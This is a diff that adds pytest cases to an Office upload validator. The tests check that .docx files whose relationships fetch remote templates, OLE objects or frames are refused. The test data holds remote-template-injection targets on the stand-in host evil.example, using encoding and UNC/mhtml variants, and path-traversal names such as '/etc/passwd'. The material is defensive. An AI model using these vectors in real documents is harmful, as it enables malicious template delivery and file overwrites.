@@ -161,6 +161,40 @@ def test_read_upload_refuses_documents_with_programs(name: str, content: bytes) 
     assert why_not(name, content) == MACROS
 
 
+def ties(kind: str, target: str, coding: str = "utf-8") -> dict[str, bytes]:
+    """The list of what a document's settings belong with: one tie to something outside."""
+    said = f'<Relationship Id="r1" Type="http://schemas.example/2006/{kind}" Target="{target}" TargetMode="External"/>'
+    return {"word/_rels/settings.xml.rels": f"<Relationships>{said}</Relationships>".encode(coding)}
+
+
+@pytest.mark.parametrize(
+    "member",
+    [
+        ties("attachedTemplate", "https://evil.example/x.dotm"),
+        ties("attachedTemplate", "\\\\evil.example\\x.dotm"),
+        ties("attachedTemplate", "file://evil.example/x.dotm"),
+        ties("attachedTemplate", "&#104;ttp://evil.example/x.dotm", "utf-16"),
+        ties("oleObject", "mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html"),
+        ties("frame", "HTTP://evil.example/"),
+    ],
+)
+def test_read_upload_refuses_documents_that_fetch_programs(member: dict[str, bytes]) -> None:
+    with pytest.raises(Unfit, match="fetches things from elsewhere"):
+        read_upload("a.docx", make_office(**member), most=MOST)
+
+
+@pytest.mark.parametrize(
+    "member",
+    [
+        ties("hyperlink", "https://example.org/"),
+        ties("attachedTemplate", "file:///C:\\Users\\Sam\\Normal.dotm"),
+        {"word/_rels/document.xml.rels": b"\xff\xfe<Relationship broken"},
+    ],
+)
+def test_read_upload_takes_documents_with_links_and_templates_of_their_own(member: dict[str, bytes]) -> None:
+    assert read_upload("a.docx", make_office(**member), most=MOST).name == "a.docx"
+
+
 @pytest.mark.parametrize(
     "member", ["../../etc/cron.d/x", "/etc/passwd", "word/../../x", "..\\..\\x", "C:\\x", "\\x"]
 )
